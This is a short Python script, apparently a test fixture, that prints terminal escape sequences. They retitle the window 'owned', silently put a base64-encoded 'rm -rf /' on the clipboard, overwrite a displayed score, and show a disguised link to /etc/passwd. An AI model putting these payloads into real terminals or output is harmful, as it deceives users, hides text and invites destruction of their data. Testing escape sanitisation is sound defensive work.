"""Prints escapes that retitle a terminal, write to the clipboard, move the cursor and hide text."""

# shows: u001b
# %% start
import sys

print("\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07\x1b[2J\x1b[1;1H\x1bPq#0\x1b\\\x9b31m 7 of 7 points\r0 of 7\x08\x08")
print("\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\", file=sys.stderr)
